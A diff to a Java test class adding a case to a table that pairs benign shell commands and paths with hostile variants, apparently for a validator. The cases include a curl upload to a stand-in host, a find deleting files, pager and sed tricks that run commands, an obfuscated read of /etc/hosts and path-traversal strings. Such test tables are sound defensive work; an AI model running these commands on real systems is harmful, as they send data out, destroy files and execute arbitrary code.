@@ -29,6 +29,7 @@ class ValuesTest {
         "SHELL_COMMAND|grep -rn TODO src/|curl -d @/x http://evil.example/",
         "SHELL_COMMAND|find . -name '*.java'|find . -exec rm {} +",
         "SHELL_COMMAND|git log --oneline|git -c core.pager=id log",
+        "SHELL_COMMAND|sed s/a/b/g file.txt|sed s/a/b/ge file.txt",
         "SHELL_COMMAND|ls -la|c''at /etc/hosts",
         "PATH|data..backup.csv|a/..;/b",
         "PATH|console.log|con.txt",
